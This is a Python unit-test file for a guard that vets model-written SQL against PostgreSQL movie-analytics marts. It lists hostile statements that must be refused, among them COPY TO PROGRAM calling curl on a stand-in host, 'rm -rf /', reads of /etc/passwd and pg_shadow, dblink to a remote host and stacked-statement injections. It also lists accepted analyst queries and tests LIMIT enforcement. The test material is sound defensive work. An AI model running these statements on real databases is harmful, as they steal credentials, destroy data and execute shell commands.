"""Unit tests for the SQL guard: hostile statements refused, analyst queries accepted unchanged
in meaning, LIMIT enforced. Pure sqlglot, no database."""

from __future__ import annotations

import pytest
import sqlglot
from sqlglot import exp

from api.text_to_sql.guard import ALLOWED_FUNCTIONS, CheckedQuery, UnsafeSql, check_sql

ALLOWED_TABLES = (
    "dim_movies",
    "dim_genres",
    "bridge_movie_genres",
    "dim_people",
    "fct_movie_cast",
    "fct_movie_crew",
    "fct_movie_metrics_daily",
    "mart_genre_year_performance",
    "ml_movie_features",
    "movie_success_predictions",
)
LIMIT = 100


def check(sql: str, limit: int = LIMIT) -> CheckedQuery:
    return check_sql(sql, allowed_tables=ALLOWED_TABLES, limit=limit)


def refusal(sql: str) -> str:
    with pytest.raises(UnsafeSql) as info:
        check(sql)
    return str(info.value)


# --------------------------------------------------------------------------------------------
# Hostile statements: (sql, a fragment the one-line reason must contain, or None)
# --------------------------------------------------------------------------------------------

HOSTILE = [
    # writes
    ("insert into marts.dim_movies (movie_id) values (1)", "INSERT"),
    ("update marts.dim_movies set title = 'x'", "UPDATE"),
    ("delete from marts.dim_movies", "DELETE is not allowed"),
    ("delete from marts.dim_movies where movie_id = 1 returning *", "DELETE"),
    (
        "merge into marts.dim_movies m using marts.dim_people p on m.movie_id = p.person_id "
        "when matched then delete",
        "MERGE",
    ),
    ("truncate marts.dim_movies", "TRUNCATE"),
    ("truncate table marts.fct_movie_cast cascade", "TRUNCATE"),
    # DDL
    ("create table marts.x as select * from marts.dim_movies", "CREATE TABLE"),
    ("create temp table t (x int)", "CREATE"),
    ("create view marts.v as select 1", "CREATE VIEW"),
    (
        "create function f() returns int language sql as 'select 1'",
        "CREATE FUNCTION",
    ),
    ("create extension dblink", "CREATE"),
    ("drop table marts.dim_movies", "DROP TABLE"),
    ("drop schema marts cascade", "DROP"),
    ("alter table marts.dim_movies add column x int", "ALTER"),
    ("alter role tmdb_analyst superuser", None),
    ("grant select on marts.dim_movies to public", "GRANT"),
    ("revoke select on marts.dim_movies from public", "REVOKE"),
    ("comment on table marts.dim_movies is 'x'", "COMMENT"),
    # COPY
    ("copy marts.dim_movies to program 'curl evil.example'", "COPY"),
    ("copy marts.dim_movies from program 'rm -rf /'", "COPY"),
    ("copy (select * from marts.dim_movies) to '/tmp/out.csv'", "COPY"),
    # several statements, including one hidden behind comments
    ("select 1; delete from marts.dim_movies", "only one statement"),
    ("select 1 /* harmless */; drop table marts.dim_movies -- */", "only one statement"),
    ("select 1;\n-- just a comment\nselect 2", "only one statement"),
    ("select title from marts.dim_movies;;update marts.dim_movies set roi = 0", "one statement"),
    # data-modifying CTEs
    ("with d as (delete from marts.dim_movies returning *) select * from d", "DELETE"),
    (
        "with u as (update marts.dim_movies set roi = 0 returning movie_id) select * from u",
        "UPDATE",
    ),
    (
        "with i as (insert into marts.dim_genres (genre_id) values (1) returning *) "
        "select count(*) from i",
        "INSERT",
    ),
    # SELECT INTO and locking clauses
    ("select * into marts.copy_of_movies from marts.dim_movies", "SELECT INTO"),
    ("select * from marts.dim_movies for update", "FOR UPDATE"),
    ("select * from marts.dim_movies for share", "FOR SHARE"),
    ("select * from marts.dim_movies m for no key update of m nowait", "locking clause"),
    # pg_sleep everywhere
    ("select pg_sleep(10)", "function pg_sleep is not allowed"),
    ("select title from marts.dim_movies where pg_sleep(10) is not null", "pg_sleep"),
    ("select title from marts.dim_movies order by pg_sleep(1)", "pg_sleep"),
    (
        "select title, row_number() over (order by pg_sleep(1)) from marts.dim_movies",
        "pg_sleep",
    ),
    ("select title from marts.dim_movies group by title having max(pg_sleep(1)::text) = ''", None),
    # server-side files, large objects, remote databases, settings
    ("select pg_read_file('/etc/passwd')", "pg_read_file"),
    ("select pg_read_binary_file('postgresql.conf')", "pg_read_binary_file"),
    ("select lo_import('/etc/passwd')", "lo_import"),
    ("select * from dblink('host=evil', 'select 1') as t(x int)", "dblink"),
    ("select dblink_exec('host=evil', 'drop table x')", "dblink_exec"),
    ("select set_config('statement_timeout', '0', false)", "set_config"),
    ("select current_setting('data_directory')", "current_setting"),
    ("select pg_terminate_backend(pid) from marts.dim_movies", "pg_terminate_backend"),
    ("select query_to_xml('select * from pg_shadow', true, true, '')", "query_to_xml"),
    ("select txid_current()", "txid_current"),
    ("select nextval('marts.some_seq')", "nextval"),
    ("select version()", "version"),
    ("select current_user", "current_user"),
    ("select current_role", "current_role"),
    # session and transaction control, utility statements
    ("set search_path = public", "SET"),
    ("set role postgres", "SET"),
    ("reset role", "RESET"),
    ("show data_directory", "SHOW"),
    ("begin", "BEGIN"),
    ("commit", "COMMIT"),
    ("rollback", "ROLLBACK"),
    ("savepoint s1", "SAVEPOINT"),
    ("vacuum full marts.dim_movies", "VACUUM"),
    ("analyze marts.dim_movies", "ANALYZE"),
    ("listen evil", "LISTEN"),
    ("notify evil, 'payload'", None),
    ("do $$ begin perform pg_sleep(10); end $$", "DO"),
    ("call marts.refresh()", "CALL"),
    ("prepare p as select 1", "PREPARE"),
    ("execute p", "EXECUTE"),
    ("explain analyze delete from marts.dim_movies", "EXPLAIN"),
    ("values (1), (2)", "VALUES"),
    # system catalogs and schemas outside marts
    ("select * from pg_catalog.pg_user", "relation pg_catalog.pg_user is outside marts"),
    ("select * from information_schema.tables", "information_schema.tables is outside marts"),
    ("select usename, passwd from pg_shadow", "pg_shadow"),
    ("select * from pg_stat_activity", "pg_stat_activity"),
    ("select * from pg_catalog.pg_proc", "pg_catalog"),
    ("select * from raw_tmdb.movies", "relation raw_tmdb.movies is outside marts"),
    ("select * from staging.stg_tmdb__movies", "outside marts"),
    ("select * from intermediate.int_movies_enriched", "outside marts"),
    ("select * from ml.model_registry", "outside marts"),
    ("select * from public.secrets", "outside marts"),
    ("select * from marts.secret_table", "not an allowed marts table"),
    ("select * from secret_table", "not an allowed marts table"),
    ("select * from tmdb.marts.dim_movies", "catalog-qualified"),
    # functions used as tables
    ("select * from generate_series(1, 1000000000)", "table function generate_series"),
    ("select * from pg_ls_dir('.')", "table function pg_ls_dir"),
    ("select * from marts.dim_movies m, lateral pg_ls_dir('.') f", "pg_ls_dir"),
    ("select * from rows from (generate_series(1, 10))", None),
    ("select generate_series(1, 1000000000)", "generate_series"),
    # obfuscations
    ("SeLeCt Pg_SlEeP(1)", "pg_sleep"),
    ('select "pg_sleep"(1)', "pg_sleep"),
    ("select pg_catalog.pg_sleep(1)", "pg_sleep"),
    ("select public.lower(title) from marts.dim_movies", "schema-qualified function"),
    ('select * from "raw_tmdb"."movies"', "outside marts"),
    ('select * from "PG_CATALOG".pg_user', "outside marts"),
    ("DELETE/**/FROM marts.dim_movies", "DELETE"),
    ("select title from marts.dim_movies union select usename from pg_user", "pg_user"),
    (
        "select title from marts.dim_movies union all select title from raw_tmdb.movies",
        "raw_tmdb.movies",
    ),
    (
        "select title from marts.dim_movies where movie_id in (select id from raw_tmdb.movies)",
        "raw_tmdb.movies",
    ),
    ("select lower(upper(pg_read_file('x'))) from marts.dim_movies", "pg_read_file"),
    ("select coalesce(null, pg_sleep(1)::text)", "pg_sleep"),
    ("select case when true then pg_sleep(1) end", "pg_sleep"),
    (
        "select * from marts.dim_movies m cross join lateral (select pg_sleep(1) as s) as x",
        "pg_sleep",
    ),
    (
        "select * from marts.dim_movies m cross join lateral "
        "(select * from raw_tmdb.movies r where r.id = m.movie_id) as x",
        "raw_tmdb",
    ),
    ("with x as (select * from pg_catalog.pg_authid) select * from x", "pg_authid"),
    (
        "with a as (select 1), b as (with c as (select * from staging.s) select * from c) "
        "select * from b",
        "staging.s",
    ),
    # a CTE name only hides a catalog table inside the CTE's own scope
    ("select * from (with pg_user as (select 1) select 1) s, pg_user", "pg_user"),
    ("with x as (select * from y), y as (select 1) select * from x", "relation y"),
    ("select 1 where exists (select 1 from pg_roles)", "pg_roles"),
    ("select array(select usename from pg_user)", "pg_user"),
    ("select title from marts.dim_movies limit (select count(*) from pg_user)", "pg_user"),
    ("select title::regclass from marts.dim_movies", "REGCLASS"),
    ("select 'pg_shadow'::regclass::oid", "not allowed"),
    # lexical tricks: E-strings are re-rendered in a way PostgreSQL reads differently
    ("select E'\\\\' as a, '; select pg_sleep(10); --' as b", "escape string"),
    ("select title from marts.dim_movies offset (select 1)", "OFFSET"),
    # not SQL at all
    ("", "no SQL statement"),
    ("-- only a comment", "no SQL statement"),
    ("select from where", "could not parse"),
    ("selec * from marts.dim_movies", None),
    # quoted identifiers are case-sensitive in PostgreSQL, so "DIM_MOVIES" is another table
    ('select * from marts."DIM_MOVIES"', "not an allowed marts table"),
    ('select * from "Dim_Movies"', "not an allowed marts table"),
    (
        "select title from marts.dim_movies where title = any(select usename from pg_user)",
        "pg_user",
    ),
]


@pytest.mark.parametrize(
    ("sql", "fragment"), HOSTILE, ids=[f"{i:03d}" for i in range(len(HOSTILE))]
)
def test_hostile_sql_is_refused(sql: str, fragment: str | None) -> None:
    reason = refusal(sql)
    assert "\n" not in reason
    assert reason
    if fragment is not None:
        assert fragment.lower() in reason.lower(), reason


def test_there_are_many_hostile_cases() -> None:
    assert len(HOSTILE) >= 55


def test_unsafe_sql_carries_the_reason() -> None:
    with pytest.raises(UnsafeSql) as info:
        check("select pg_sleep(1)")
    assert info.value.reason == str(info.value) == "function pg_sleep is not allowed"
    assert isinstance(info.value, ValueError)


def test_parse_error_reason_is_one_line() -> None:
    reason = refusal("select title from where")
    assert reason.startswith("could not parse the SQL: ")
    assert "'where'" in reason and "<Token" not in reason
    assert "\n" not in reason


# --------------------------------------------------------------------------------------------
# Legitimate analyst queries: (sql, marts tables referenced)
# --------------------------------------------------------------------------------------------

LEGIT = [
    (
        "select title, roi from marts.dim_movies where roi is not null order by roi desc limit 10",
        {"dim_movies"},
    ),
    (
        "select m.title, g.genre_name from marts.dim_movies m "
        "join marts.bridge_movie_genres g on g.movie_id = m.movie_id where g.genre_name = 'Drama'",
        {"dim_movies", "bridge_movie_genres"},
    ),
    (
        "select p.name, count(*) as movies from marts.fct_movie_cast c "
        "inner join marts.dim_people p on p.person_id = c.person_id "
        "inner join marts.dim_movies m on m.movie_id = c.movie_id "
        "where c.cast_order < 3 group by p.name having count(*) >= 5 order by movies desc",
        {"fct_movie_cast", "dim_people", "dim_movies"},
    ),
    (
        "select m.title, cr.person_id from marts.dim_movies m "
        "left join marts.fct_movie_crew cr using (movie_id) "
        "full outer join marts.movie_success_predictions sp on sp.movie_id = m.movie_id",
        {"dim_movies", "fct_movie_crew", "movie_success_predictions"},
    ),
    (
        "with top as (select movie_id, title from marts.dim_movies order by revenue_usd desc "
        "nulls last limit 5) select top.title, d.snapshot_date, d.popularity from top "
        "join marts.fct_movie_metrics_daily d on d.movie_id = top.movie_id",
        {"dim_movies", "fct_movie_metrics_daily"},
    ),
    (
        "with yearly as (select release_year, sum(revenue_usd) as revenue from marts.dim_movies "
        "group by release_year), ranked as (select release_year, revenue, "
        "rank() over (order by revenue desc) as rnk from yearly) "
        "select * from ranked where rnk <= 3",
        {"dim_movies"},
    ),
    (
        "with outer_cte as (with inner_cte as (select movie_id, roi from dim_movies) "
        "select * from inner_cte where roi > 1) select count(*) from outer_cte",
        {"dim_movies"},
    ),
    (
        "with recursive years(y) as (select 2000 union all select y + 1 from years "
        "where y < 2010) select years.y, count(m.movie_id) from years "
        "left join marts.dim_movies m on m.release_year = years.y group by years.y",
        {"dim_movies"},
    ),
    (
        "select genre_name, release_year, total_revenue_usd, rank() over "
        "(partition by release_year order by total_revenue_usd desc) as rnk "
        "from marts.mart_genre_year_performance",
        {"mart_genre_year_performance"},
    ),
    (
        "select snapshot_date, popularity, popularity - lag(popularity) over "
        "(partition by movie_id order by snapshot_date) as change "
        "from marts.fct_movie_metrics_daily where movie_id = 550",
        {"fct_movie_metrics_daily"},
    ),
    (
        "select release_year, sum(revenue_usd) over (order by release_year rows between "
        "unbounded preceding and current row) as running_revenue from marts.dim_movies",
        {"dim_movies"},
    ),
    (
        "select title, ntile(4) over w as quartile, dense_rank() over w, percent_rank() over w, "
        "cume_dist() over w, first_value(title) over w, lead(title, 1) over w "
        "from marts.dim_movies window w as (order by vote_average)",
        {"dim_movies"},
    ),
    (
        "select movie_id, row_number() over (partition by movie_id order by snapshot_date desc) "
        "as rn from marts.fct_movie_metrics_daily",
        {"fct_movie_metrics_daily"},
    ),
    (
        "select primary_genre, count(*), avg(vote_average), min(budget_usd), max(revenue_usd), "
        "stddev(roi), variance(roi), sum(revenue_usd) filter (where is_commercial_success) "
        "from marts.dim_movies group by primary_genre having count(*) > 10",
        {"dim_movies"},
    ),
    (
        "select date_trunc('month', release_date) as month, count(*) from marts.dim_movies "
        "where release_date >= current_date - interval '5 years' group by 1 order by 1",
        {"dim_movies"},
    ),
    (
        "select extract(year from release_date) as y, date_part('month', release_date) as mo, "
        "age(current_date, release_date) as how_old, to_char(release_date, 'YYYY-MM') as ym "
        "from marts.dim_movies where release_date between date '2000-01-01' and now()",
        {"dim_movies"},
    ),
    (
        "select title from marts.dim_movies where release_date > make_date(2020, 1, 1) "
        "and release_date + interval '30 days' < current_timestamp",
        {"dim_movies"},
    ),
    (
        "select upper(title), lower(title), initcap(director_name), length(title), "
        "substring(title from 1 for 10), trim(title), replace(title, ':', ''), "
        "left(title, 3), split_part(title, ' ', 1), concat(title, ' (', release_year, ')'), "
        "title || '!' from marts.dim_movies",
        {"dim_movies"},
    ),
    (
        "select string_agg(title, ', ' order by title), strpos(title, 'Star'), "
        "position('War' in title), lpad(release_year::text, 6, '0'), regexp_replace(title, "
        "'[0-9]+', '#', 'g') from marts.dim_movies group by title",
        {"dim_movies"},
    ),
    (
        "select title, case when roi > 3 then 'hit' when roi > 1 then 'ok' else 'flop' end "
        "as verdict, coalesce(director_name, 'unknown'), nullif(budget_usd, 0) "
        "from marts.dim_movies",
        {"dim_movies"},
    ),
    (
        "select revenue_usd / nullif(budget_usd, 0)::numeric as ratio, "
        "round(avg(vote_average)::numeric, 2) as avg_vote "
        "from marts.dim_movies group by revenue_usd, budget_usd",
        {"dim_movies"},
    ),
    (
        "select title from marts.dim_movies where primary_genre in ('Drama', 'Comedy') "
        "and release_year between 1990 and 1999 and title like 'The %' "
        "and director_name ilike '%nolan%' and title not like '%2'",
        {"dim_movies"},
    ),
    (
        "select title from marts.dim_movies where release_year = 2001 "
        "union select title from marts.dim_movies where release_year = 2002 "
        "order by title",
        {"dim_movies"},
    ),
    (
        "select movie_id from marts.bridge_movie_genres where genre_name = 'Drama' "
        "intersect select movie_id from marts.dim_movies where roi > 2 "
        "except select movie_id from marts.movie_success_predictions",
        {"bridge_movie_genres", "dim_movies", "movie_success_predictions"},
    ),
    (
        "select title from marts.dim_movies where movie_id in (select movie_id from "
        "marts.bridge_movie_genres where genre_name = 'Horror') and exists (select 1 from "
        "marts.fct_movie_cast c where c.movie_id = dim_movies.movie_id)",
        {"dim_movies", "bridge_movie_genres", "fct_movie_cast"},
    ),
    (
        "select t.genre_name, t.n from (select genre_name, count(*) as n from "
        "marts.bridge_movie_genres group by genre_name) as t where t.n > "
        "(select avg(movie_count) from marts.mart_genre_year_performance)",
        {"bridge_movie_genres", "mart_genre_year_performance"},
    ),
    (
        "select unnest(genre_names) as genre, count(*) from marts.ml_movie_features group by 1",
        {"ml_movie_features"},
    ),
    (
        "select movie_id, cardinality(genre_names), array_length(genre_names, 1), "
        "array_to_string(genre_names, '/') from marts.ml_movie_features",
        {"ml_movie_features"},
    ),
    (
        "select count(*) from marts.ml_movie_features where 'Drama' = any(genre_names) "
        "and genre_names @> array['Comedy']",
        {"ml_movie_features"},
    ),
    (
        "select g.genre, count(*) from marts.ml_movie_features f "
        "cross join lateral unnest(f.genre_names) as g(genre) group by g.genre",
        {"ml_movie_features"},
    ),
    (
        "select genre_name, percentile_cont(0.5) within group (order by roi) as median_roi, "
        "percentile_disc(0.9) within group (order by roi) from marts.bridge_movie_genres b "
        "join marts.dim_movies m using (movie_id) group by genre_name",
        {"bridge_movie_genres", "dim_movies"},
    ),
    (
        "select distinct on (movie_id) movie_id, snapshot_date, popularity "
        "from marts.fct_movie_metrics_daily order by movie_id, snapshot_date desc",
        {"fct_movie_metrics_daily"},
    ),
    (
        "select budget_usd::numeric, release_date::date, cast(vote_count as bigint), "
        "release_year::text from marts.dim_movies",
        {"dim_movies"},
    ),
    (
        "select title, vote_average from marts.dim_movies "
        "order by vote_average desc nulls last, title asc nulls first limit 20 offset 40",
        {"dim_movies"},
    ),
    (
        "select genre_id, genre_name from dim_genres order by genre_name",
        {"dim_genres"},
    ),
    (
        'select "title" from "marts"."dim_movies" order by "title" collate "C"',
        {"dim_movies"},
    ),
    (
        "select corr(budget_usd, revenue_usd), regr_slope(revenue_usd, budget_usd), "
        "bool_and(is_commercial_success), bool_or(is_commercial_success), "
        "array_agg(distinct primary_genre) from marts.dim_movies",
        {"dim_movies"},
    ),
    (
        "select width_bucket(roi, 0, 10, 5) as bucket, count(*), abs(min(roi)), "
        "ceil(max(roi)), floor(avg(roi)), power(2, 3), sqrt(4), ln(10), log(100), "
        "greatest(1, 2), least(1, 2), 7 % 3, sign(-1) from marts.dim_movies group by 1",
        {"dim_movies"},
    ),
    (
        "select success_rate, median_roi from marts.mart_genre_year_performance "
        "where genre_name ~* '^sci' and release_year is not null",
        {"mart_genre_year_performance"},
    ),
    (
        "select count(*) from marts.dim_movies m where not exists "
        "(select 1 from marts.movie_success_predictions p where p.movie_id = m.movie_id)",
        {"dim_movies", "movie_success_predictions"},
    ),
    (
        "(select title from marts.dim_movies order by roi desc limit 3) "
        "union all (select title from marts.dim_movies order by roi asc limit 3)",
        {"dim_movies"},
    ),
    (
        "select x.v, m.title from (values (1, 'a'), (2, 'b')) as x(v, label) "
        "join marts.dim_movies m on m.movie_id = x.v",
        {"dim_movies"},
    ),
    (
        "select title -- the name\nfrom marts.dim_movies /* only marts */ where roi > 1",
        {"dim_movies"},
    ),
]


def _tables_in(tree: exp.Expression) -> set[tuple[str, str]]:
    return {(t.db, t.name) for t in tree.find_all(exp.Table) if isinstance(t.this, exp.Identifier)}


@pytest.mark.parametrize(("sql", "tables"), LEGIT, ids=[f"{i:03d}" for i in range(len(LEGIT))])
def test_analyst_query_is_accepted(sql: str, tables: set[str]) -> None:
    checked = check(sql)

    assert checked.tables == frozenset(tables)
    assert 1 <= checked.limit <= LIMIT

    rendered = sqlglot.parse(checked.sql, read="postgres")
    assert len(rendered) == 1
    tree = rendered[0]
    original = sqlglot.parse_one(sql, read="postgres")

    # same select list, same relations (qualified with marts), LIMIT in force on the outside
    assert tree.named_selects == original.named_selects
    cte_names = {cte.alias for cte in tree.find_all(exp.CTE)}
    for db, name in _tables_in(tree):
        assert db == "marts" or (db == "" and name in cte_names), (db, name)
    assert {name for db, name in _tables_in(tree) if db == "marts"} == tables
    limit_node = tree.args["limit"]
    assert isinstance(limit_node, exp.Limit)
    assert int(limit_node.expression.this) == checked.limit

    # the rendering passes the guard again, unchanged in tables and limit
    again = check(checked.sql)
    assert (again.tables, again.limit) == (checked.tables, checked.limit)
    assert "/*" not in checked.sql and "--" not in checked.sql


def test_there_are_many_legit_cases() -> None:
    assert len(LEGIT) >= 35


# --------------------------------------------------------------------------------------------
# Every allowlisted function, however sqlglot types it, is accepted
# --------------------------------------------------------------------------------------------

FUNCTION_PROBES = {
    "count": "count(*)",
    "sum": "sum(roi)",
    "avg": "avg(roi)",
    "min": "min(roi)",
    "max": "max(roi)",
    "stddev": "stddev(roi)",
    "stddev_pop": "stddev_pop(roi)",
    "stddev_samp": "stddev_samp(roi)",
    "variance": "variance(roi)",
    "var_pop": "var_pop(roi)",
    "var_samp": "var_samp(roi)",
    "percentile_cont": "percentile_cont(0.5) within group (order by roi)",
    "percentile_disc": "percentile_disc(0.5) within group (order by roi)",
    "mode": "mode() within group (order by primary_genre)",
    "array_agg": "array_agg(title order by title)",
    "string_agg": "string_agg(distinct title, ',')",
    "bool_and": "bool_and(is_commercial_success)",
    "bool_or": "bool_or(is_commercial_success)",
    "every": "every(is_commercial_success)",
    "corr": "corr(roi, vote_average)",
    "covar_pop": "covar_pop(roi, vote_average)",
    "covar_samp": "covar_samp(roi, vote_average)",
    "regr_avgx": "regr_avgx(roi, vote_average)",
    "regr_avgy": "regr_avgy(roi, vote_average)",
    "regr_count": "regr_count(roi, vote_average)",
    "regr_intercept": "regr_intercept(roi, vote_average)",
    "regr_r2": "regr_r2(roi, vote_average)",
    "regr_slope": "regr_slope(roi, vote_average)",
    "regr_sxx": "regr_sxx(roi, vote_average)",
    "regr_sxy": "regr_sxy(roi, vote_average)",
    "regr_syy": "regr_syy(roi, vote_average)",
    "abs": "abs(roi)",
    "round": "round(roi, 2)",
    "ceil": "ceil(roi)",
    "ceiling": "ceiling(roi)",
    "floor": "floor(roi)",
    "trunc": "trunc(roi, 1)",
    "sign": "sign(roi)",
    "sqrt": "sqrt(vote_count)",
    "cbrt": "cbrt(vote_count)",
    "power": "power(roi, 2)",
    "pow": "pow(roi, 2)",
    "exp": "exp(roi)",
    "ln": "ln(roi)",
    "log": "log(2, roi)",
    "log10": "log10(roi)",
    "mod": "mod(vote_count, 7)",
    "div": "div(vote_count, 7)",
    "width_bucket": "width_bucket(roi, 0, 10, 5)",
    "lower": "lower(title)",
    "upper": "upper(title)",
    "initcap": "initcap(title)",
    "length": "length(title)",
    "char_length": "char_length(title)",
    "character_length": "character_length(title)",
    "trim": "trim(both ' ' from title)",
    "btrim": "btrim(title)",
    "ltrim": "ltrim(title)",
    "rtrim": "rtrim(title)",
    "substring": "substring(title, 1, 3)",
    "substr": "substr(title, 1, 3)",
    "left": "left(title, 3)",
    "right": "right(title, 3)",
    "replace": "replace(title, 'a', 'b')",
    "translate": "translate(title, 'ab', 'cd')",
    "concat": "concat(title, '!')",
    "concat_ws": "concat_ws(', ', title, director_name)",
    "position": "position('a' in title)",
    "strpos": "strpos(title, 'a')",
    "split_part": "split_part(title, ' ', 1)",
    "lpad": "lpad(title, 10, '.')",
    "rpad": "rpad(title, 10)",
    "reverse": "reverse(title)",
    "starts_with": "starts_with(title, 'The')",
    "regexp_replace": "regexp_replace(title, '\\d', '#', 'g')",
    "regexp_match": "regexp_match(title, '(\\d+)')",
    "extract": "extract(dow from release_date)",
    "date_part": "date_part('year', release_date)",
    "date_trunc": "date_trunc('week', release_date)",
    "age": "age(release_date)",
    "make_date": "make_date(release_year, 1, 1)",
    "make_interval": "make_interval(days => 3)",
    "make_timestamp": "make_timestamp(2020, 1, 2, 3, 4, 5)",
    "to_char": "to_char(release_date, 'Mon YYYY')",
    "to_date": "to_date('2020-01-01', 'YYYY-MM-DD')",
    "to_timestamp": "to_timestamp('2020', 'YYYY')",
    "now": "now()",
    "current_date": "current_date",
    "current_timestamp": "current_timestamp",
    "coalesce": "coalesce(roi, 0)",
    "nullif": "nullif(budget_usd, 0)",
    "case": "case primary_genre when 'Drama' then 1 else 0 end",
    "cast": "cast(roi as numeric(10, 2))",
    "greatest": "greatest(roi, 0)",
    "least": "least(roi, 10)",
    "unnest": "unnest(array[title, director_name])",
    "array_length": "array_length(array[1, 2], 1)",
    "cardinality": "cardinality(array[1, 2])",
    "array_to_string": "array_to_string(array[title], ',')",
    "array_position": "array_position(array[title], 'x')",
    "string_to_array": "string_to_array(title, ' ')",
    "any": "'Drama' = any(array[primary_genre])",
    "all": "roi > all(array[1, 2])",
    "some": "roi > some(array[1, 2])",
    "row_number": "row_number() over (order by roi)",
    "rank": "rank() over (order by roi)",
    "dense_rank": "dense_rank() over (order by roi)",
    "percent_rank": "percent_rank() over (order by roi)",
    "cume_dist": "cume_dist() over (order by roi)",
    "ntile": "ntile(10) over (order by roi)",
    "lag": "lag(roi, 1, 0) over (order by release_date)",
    "lead": "lead(roi) over (order by release_date)",
    "first_value": "first_value(title) over (partition by release_year order by roi)",
    "last_value": "last_value(title) over (partition by release_year order by roi)",
    "nth_value": "nth_value(title, 2) over (order by roi)",
}


def test_every_allowed_function_has_a_probe() -> None:
    assert set(FUNCTION_PROBES) == set(ALLOWED_FUNCTIONS)


@pytest.mark.parametrize("name", sorted(FUNCTION_PROBES))
def test_allowed_function_is_accepted(name: str) -> None:
    checked = check(f"select {FUNCTION_PROBES[name]} as v from marts.dim_movies")
    assert checked.tables == frozenset({"dim_movies"})


@pytest.mark.parametrize(
    "call",
    [
        "pg_sleep(1)",
        "pg_ls_dir('.')",
        "pg_stat_file('x')",
        "lo_export(1, '/tmp/x')",
        "dblink_connect('x')",
        "setval('s', 1)",
        "txid_current_snapshot()",
        "current_database()",
        "inet_server_addr()",
        "md5(title)",
        "repeat(title, 1000000)",
        "format('%s', title)",
        "to_json(title)",
        "json_build_object('a', 1)",
        "clock_timestamp()",
        "regexp_matches(title, 'a')",
    ],
)
def test_functions_outside_the_allowlist_are_refused(call: str) -> None:
    name = call.split("(")[0]
    assert f"function {name}" in refusal(f"select {call} from marts.dim_movies")


def test_unnest_in_from_is_allowed_but_other_table_functions_are_not() -> None:
    # decision: unnest is the only function allowed as a relation; it reads no server state
    checked = check(
        "select g.genre, count(*) from marts.ml_movie_features f, "
        "unnest(f.genre_names) as g(genre) group by g.genre"
    )
    assert checked.tables == frozenset({"ml_movie_features"})
    assert "table function generate_series" in refusal(
        "select * from marts.ml_movie_features f, generate_series(1, 3) as s(n)"
    )


# --------------------------------------------------------------------------------------------
# LIMIT
# --------------------------------------------------------------------------------------------


def _limit_of(sql: str) -> int:
    node = sqlglot.parse_one(sql, read="postgres").args["limit"]
    assert isinstance(node, exp.Limit)
    return int(node.expression.this)


def test_missing_limit_is_added() -> None:
    checked = check("select title from marts.dim_movies", limit=50)
    assert checked.limit == 50
    assert checked.sql == "SELECT title FROM marts.dim_movies LIMIT 50"


def test_larger_limit_is_lowered() -> None:
    checked = check("select title from marts.dim_movies limit 100000", limit=50)
    assert checked.limit == 50 == _limit_of(checked.sql)


def test_smaller_limit_is_kept() -> None:
    checked = check("select title from marts.dim_movies limit 7", limit=50)
    assert checked.limit == 7 == _limit_of(checked.sql)


def test_limit_zero_is_kept() -> None:
    assert check("select title from marts.dim_movies limit 0").limit == 0


@pytest.mark.parametrize(
    "clause",
    [
        "limit all",
        "limit null",
        "limit 10 * 1000",
        "limit (select 5)",
        "limit '5'",
        "limit -1",
        "limit 1e9",
    ],
)
def test_non_literal_limit_is_replaced(clause: str) -> None:
    checked = check(f"select title from marts.dim_movies {clause}", limit=25)
    assert checked.limit == 25 == _limit_of(checked.sql)


def test_fetch_first_becomes_limit() -> None:
    checked = check(
        "select title from marts.dim_movies order by roi fetch first 5000 rows only", limit=30
    )
    assert checked.limit == 30
    assert checked.sql.endswith("ORDER BY roi LIMIT 30")


def test_literal_offset_is_kept() -> None:
    checked = check("select title from marts.dim_movies limit 10 offset 20", limit=50)
    assert checked.sql == "SELECT title FROM marts.dim_movies LIMIT 10 OFFSET 20"


def test_set_operation_is_limited_as_a_whole() -> None:
    checked = check(
        "select title from marts.dim_movies union all select name from marts.dim_people limit 1000",
        limit=40,
    )
    tree = sqlglot.parse_one(checked.sql, read="postgres")
    assert isinstance(tree, exp.Union)
    assert checked.limit == 40 == _limit_of(checked.sql)
    assert tree.this.args.get("limit") is None
    assert tree.expression.args.get("limit") is None


def test_set_operation_without_limit_gets_one() -> None:
    checked = check("select 1 intersect select 2", limit=9)
    assert checked.sql == "SELECT 1 INTERSECT SELECT 2 LIMIT 9"


def test_inner_limits_are_left_alone() -> None:
    checked = check(
        "select * from (select title from marts.dim_movies limit 100000) t limit 3", limit=50
    )
    assert "LIMIT 100000" in checked.sql
    assert checked.limit == 3


@pytest.mark.parametrize("bad", [0, -1, True, 2.5])
def test_bad_limit_argument_is_a_programming_error(bad) -> None:
    with pytest.raises(ValueError) as info:
        check_sql("select 1", allowed_tables=ALLOWED_TABLES, limit=bad)
    assert not isinstance(info.value, UnsafeSql)


# --------------------------------------------------------------------------------------------
# Rendering: qualification, comments, CTE scope
# --------------------------------------------------------------------------------------------


def test_unqualified_tables_are_rendered_in_marts() -> None:
    checked = check(
        "select m.title, p.name from dim_movies m join fct_movie_cast c on c.movie_id = "
        "m.movie_id join dim_people p on p.person_id = c.person_id"
    )
    assert "marts.dim_movies AS m" in checked.sql
    assert "marts.fct_movie_cast AS c" in checked.sql
    assert "marts.dim_people AS p" in checked.sql
    assert checked.tables == frozenset({"dim_movies", "fct_movie_cast", "dim_people"})


def test_cte_names_stay_unqualified() -> None:
    checked = check("with dim_movies as (select 1 as x) select x from dim_movies")
    assert checked.sql == "WITH dim_movies AS (SELECT 1 AS x) SELECT x FROM dim_movies LIMIT 100"
    assert checked.tables == frozenset()


def test_other_schema_name_is_honoured() -> None:
    checked = check_sql(
        "select * from dim_movies", allowed_tables=["dim_movies"], limit=5, schema="analytics"
    )
    assert checked.sql == "SELECT * FROM analytics.dim_movies LIMIT 5"
    with pytest.raises(UnsafeSql, match="outside analytics"):
        check_sql(
            "select * from marts.dim_movies",
            allowed_tables=["dim_movies"],
            limit=5,
            schema="analytics",
        )


def test_comments_are_stripped() -> None:
    checked = check(
        "/* leading */ select title -- trailing ; drop table x\n"
        "from marts.dim_movies /* ; delete from marts.dim_movies */"
    )
    assert checked.sql == "SELECT title FROM marts.dim_movies LIMIT 100"


def test_sql_is_rendered_from_the_tree_not_the_input() -> None:
    checked = check("SELECT   title\n\tFROM   dim_movies   ;")
    assert checked.sql == "SELECT title FROM marts.dim_movies LIMIT 100"


def test_trailing_semicolon_is_fine() -> None:
    assert check("select 1;").sql == "SELECT 1 LIMIT 100"


def test_quoted_identifiers_are_rendered_safely() -> None:
    checked = check('select title as "x""; drop table y; --" from marts.dim_movies')
    assert len(sqlglot.parse(checked.sql, read="postgres")) == 1
    assert '"x""; drop table y; --"' in checked.sql


